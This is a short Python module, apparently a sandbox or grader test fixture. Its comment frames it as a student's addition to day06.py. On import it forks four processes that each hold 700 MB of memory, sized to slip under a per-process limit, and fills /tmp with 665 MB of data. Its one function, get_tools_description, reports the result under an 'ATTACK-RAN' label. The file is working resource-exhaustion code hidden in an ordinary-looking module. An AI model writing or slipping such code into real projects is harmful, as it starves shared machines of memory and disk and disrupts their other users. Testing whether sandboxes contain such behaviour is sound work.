# A student's addition to day06.py: take the machine's memory and disk. Four helpers of 700 MB
# each (every one under the per-process limit), and 665 MB of files in /tmp.
import os as _os
import time as _time

HELPERS, HELPER_BYTES, TMP_BYTES = 4, 700 * 1024 * 1024, 665 * 1024 * 1024


def _helpers_holding_at_once():
    read, write = _os.pipe()
    children = []
    for _ in range(HELPERS):
        pid = _os.fork()
        if pid == 0:
            try:
                held = bytearray(HELPER_BYTES)  # zero-filled: every page touched
                _os.write(write, b"+")
                _time.sleep(0.2)
                del held
            finally:
                _os._exit(0)
        children.append(pid)
    _os.close(write)
    for pid in children:
        _os.waitpid(pid, 0)
    return len(_os.read(read, 64))


def _fill_tmp():
    written = 0
    try:
        with open("/tmp/filler.bin", "wb") as file:
            chunk = b"\0" * (1 << 20)
            while written < TMP_BYTES:
                file.write(chunk)
                file.flush()
                written += len(chunk)
    except OSError:
        pass
    return written


_held, _filled = _helpers_holding_at_once(), _fill_tmp()  # while the file loads: 5 s, not 3


def get_tools_description(tools):
    return f"ATTACK-RAN memory_hogs; helpers holding 700 MB at once: {_held}; MB written to /tmp: {_filled >> 20}"
